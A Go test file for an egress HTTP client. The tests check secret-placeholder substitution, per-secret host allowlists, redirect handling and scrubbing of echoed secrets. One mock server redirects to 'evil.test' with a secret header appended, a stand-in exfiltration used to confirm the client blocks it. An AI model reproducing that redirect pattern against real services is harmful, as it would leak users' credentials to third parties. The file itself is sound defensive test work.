package egress

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	neturl "net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// mapResolver resolves from a map; names it lacks are unknown.
type mapResolver map[string]Secret

func (m mapResolver) ResolveSecret(_ context.Context, name string) (Secret, error) {
	s, ok := m[name]
	if !ok {
		return Secret{}, fmt.Errorf("tenant t1: %w", ErrUnknownSecret)
	}
	return s, nil
}

const testValue = "sk_live_s3cr3t/+=<&>\"value"

func secretClient(t *testing.T) *Client {
	c, _ := newClient(t, Options{AllowLoopback: true, LookupIP: fakeLookup(map[string][]string{
		"api.example.com":   {"127.0.0.1"},
		"other.example.com": {"127.0.0.1"},
	})})
	return c
}

func TestSecretSubstitutedOnlyForAllowedHost(t *testing.T) {
	got := make(chan http.Header, 1)
	srv, _ := newServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r.Header.Clone()
		_, _ = io.WriteString(w, "ok")
	}))
	c := secretClient(t)
	res := mapResolver{"stripe_key": {Value: testValue, AllowedHosts: []string{"api.example.com"}}}
	req := Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/x", serverPort(srv)),
		Headers:        map[string]string{"Authorization": "Bearer {{secret:stripe_key}}", "X-Twice": "{{secret:stripe_key}}:{{secret:stripe_key}}", "X-Plain": "p"},
		AllowedDomains: []string{"*.example.com"}, Secrets: res}
	_, err := c.Do(context.Background(), req)
	require.NoError(t, err)
	h := <-got
	require.Equal(t, "Bearer "+testValue, h.Get("Authorization"))
	require.Equal(t, testValue+":"+testValue, h.Get("X-Twice"))
	require.Equal(t, "p", h.Get("X-Plain"))

	// Another host of the tenant's allowlist, not of the secret's: refused before any connection.
	req.URL = fmt.Sprintf("http://other.example.com:%d/x", serverPort(srv))
	_, err = c.Do(context.Background(), req)
	e := kindError(t, err, KindSecret)
	require.Contains(t, e.Error(), `secret "stripe_key" may not be sent to host other.example.com`)
	require.Equal(t, "stripe_key", e.Secret)
	require.NotContains(t, e.Error(), testValue)
	require.Empty(t, got, "nothing was sent")

	// An unknown secret, and no resolver at all.
	req.URL = fmt.Sprintf("http://api.example.com:%d/x", serverPort(srv))
	req.Headers = map[string]string{"Authorization": "Bearer {{secret:nope}}"}
	_, err = c.Do(context.Background(), req)
	e = kindError(t, err, KindSecret)
	require.Contains(t, e.Error(), `secret "nope" is not defined`)
	require.Equal(t, "nope", e.Secret)
	req.Secrets = nil
	_, err = c.Do(context.Background(), req)
	requireKind(t, err, KindSecret)
	require.Empty(t, got, "nothing was sent")

	// A resolver failure other than not-found is a transport error without the value.
	req.Secrets = failingResolver{}
	_, err = c.Do(context.Background(), req)
	requireKind(t, err, KindTransport)
}

type failingResolver struct{}

func (failingResolver) ResolveSecret(context.Context, string) (Secret, error) {
	return Secret{}, errors.New("database is locked")
}

func TestSecretNotCarriedAcrossRedirectToAnotherHost(t *testing.T) {
	type seen struct{ host, auth, key string }
	got := make(chan seen, 4)
	var target string
	srv, _ := newServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- seen{r.Host, r.Header.Get("Authorization"), r.Header.Get("X-Api-Key")}
		if r.URL.Path == "/start" {
			http.Redirect(w, r, target, http.StatusFound)
			return
		}
		_, _ = io.WriteString(w, "landed")
	}))
	target = fmt.Sprintf("http://other.example.com:%d/landing", serverPort(srv))
	c := secretClient(t)
	res := mapResolver{"k": {Value: testValue, AllowedHosts: []string{"api.example.com"}}}
	resp, err := c.Do(context.Background(), Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/start", serverPort(srv)),
		// X-Api-Key is not one of the headers dropped at a cross-origin redirect: the secret's
		// allowed_hosts drop it.
		Headers:        map[string]string{"Authorization": "Bearer {{secret:k}}", "X-Api-Key": "{{secret:k}}"},
		AllowedDomains: []string{"*.example.com"}, Secrets: res})
	require.NoError(t, err)
	require.Equal(t, "landed", string(resp.Body))
	first, second := <-got, <-got
	require.Equal(t, testValue, first.key)
	require.Equal(t, "Bearer "+testValue, first.auth)
	require.True(t, strings.HasPrefix(second.host, "other.example.com"))
	require.Empty(t, second.key, "the secret's header is dropped on a hop its allowed_hosts do not match")
	require.Empty(t, second.auth)

	// Same host redirect keeps it (re-checked and allowed).
	target = fmt.Sprintf("http://api.example.com:%d/landing", serverPort(srv))
	_, err = c.Do(context.Background(), Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/start", serverPort(srv)),
		Headers: map[string]string{"X-Api-Key": "{{secret:k}}"}, AllowedDomains: []string{"*.example.com"}, Secrets: res})
	require.NoError(t, err)
	<-got
	require.Equal(t, testValue, (<-got).key)
}

func TestEchoedSecretIsScrubbed(t *testing.T) {
	srv, _ := newServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		v := r.Header.Get("Authorization")
		w.Header().Set("X-Echo", v)
		w.Header().Set("Content-Type", "application/json")
		// As is, JSON-escaped (Go's encoder escapes <, >, &), and in a query string.
		_, _ = fmt.Fprintf(w, `{"raw":%q,"json":%s,"url":"%s"}`, v, mustJSON(v), "a=b&token="+urlEscape(strings.TrimPrefix(v, "Bearer ")))
	}))
	c := secretClient(t)
	resp, err := c.Do(context.Background(), Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/echo", serverPort(srv)),
		Headers:        map[string]string{"Authorization": "Bearer {{secret:k}}"},
		AllowedDomains: []string{"api.example.com"},
		Secrets:        mapResolver{"k": {Value: testValue, AllowedHosts: []string{"api.example.com"}}}})
	require.NoError(t, err)
	require.Equal(t, "Bearer "+Redacted, resp.Headers["X-Echo"])
	require.NotContains(t, string(resp.Body), "s3cr3t", "body: %s", resp.Body)
	require.Contains(t, string(resp.Body), Redacted)
	for _, v := range resp.Headers {
		require.NotContains(t, v, "s3cr3t")
	}
}

func TestSecretValueNeverInErrors(t *testing.T) {
	// The server hangs up mid-response; transport errors are redacted of the value too.
	srv, _ := newServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://evil.test/"+r.Header.Get("X-Key"), http.StatusFound)
	}))
	c := secretClient(t)
	_, err := c.Do(context.Background(), Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/", serverPort(srv)),
		Headers: map[string]string{"X-Key": "{{secret:k}}"}, AllowedDomains: []string{"api.example.com"},
		Secrets: mapResolver{"k": {Value: "abcdefgh12345", AllowedHosts: []string{"api.example.com"}}}})
	e := kindError(t, err, KindForbiddenDomain)
	require.NotContains(t, e.Error(), "abcdefgh12345")
}

func TestHasSecretRef(t *testing.T) {
	require.True(t, HasSecretRef("Bearer {{secret:a_1}}"))
	require.False(t, HasSecretRef("Bearer {{secret:1a}}"))
	require.False(t, HasSecretRef("{{ secret:a }}"))
	require.False(t, HasSecretRef("plain"))
}

func mustJSON(v string) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func urlEscape(v string) string { return neturl.QueryEscape(v) }

func TestEscapedEchoIsScrubbed(t *testing.T) {
	// The upstream spells every character of the value as a \u escape: the bytes never contain it,
	// but the sandbox's JSON decoding would rebuild it.
	srv, _ := newServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		for _, c := range r.Header.Get("X-Key") {
			fmt.Fprintf(&b, `\u%04x`, c)
		}
		_, _ = fmt.Fprintf(w, `{"echo":"%s","n":1.50,"list":["%s"],"%s":true}`, b.String(), b.String(), b.String())
	}))
	c := secretClient(t)
	resp, err := c.Do(context.Background(), Request{Method: "GET", URL: fmt.Sprintf("http://api.example.com:%d/", serverPort(srv)),
		Headers: map[string]string{"X-Key": "{{secret:k}}"}, AllowedDomains: []string{"api.example.com"},
		Secrets: mapResolver{"k": {Value: "abcdefgh12345", AllowedHosts: []string{"api.example.com"}}}})
	require.NoError(t, err)
	var v map[string]any
	require.NoError(t, json.Unmarshal(resp.Body, &v))
	require.Equal(t, Redacted, v["echo"])
	require.Equal(t, []any{Redacted}, v["list"])
	require.Equal(t, true, v[Redacted])
	require.Contains(t, string(resp.Body), `"n":1.50`, "numbers kept exactly")
	require.NotContains(t, string(resp.Body), "abcdefgh12345")

	// A JSON body without the value is returned byte for byte.
	require.Equal(t, `{"a":"\u0041"}`, string(scrubJSON([]byte(`{"a":"\u0041"}`), []string{"abcdefgh12345"})))
}

// countingResolver counts resolutions.
type countingResolver struct {
	mapResolver
	n *int
}

func (c countingResolver) ResolveSecret(ctx context.Context, name string) (Secret, error) {
	*c.n++
	return c.mapResolver.ResolveSecret(ctx, name)
}

func TestSecretNotOpenedForAForbiddenRequest(t *testing.T) {
	c := secretClient(t)
	n := 0
	res := countingResolver{mapResolver{"k": {Value: testValue, AllowedHosts: []string{"api.example.com"}}}, &n}
	_, err := c.Do(context.Background(), Request{Method: "GET", URL: "http://api.example.com/x",
		Headers: map[string]string{"X-Key": "{{secret:k}}"}, AllowedDomains: []string{"other.example.com"}, Secrets: res})
	requireKind(t, err, KindForbiddenDomain)
	_, err = c.Do(context.Background(), Request{Method: "PUT", URL: "http://api.example.com/x",
		Headers: map[string]string{"X-Key": "{{secret:k}}"}, AllowedDomains: []string{"api.example.com"}, Secrets: res})
	requireKind(t, err, KindBadRequest)
	require.Zero(t, n, "the tenant's allowlist and the request's shape are checked before a secret is opened")
}
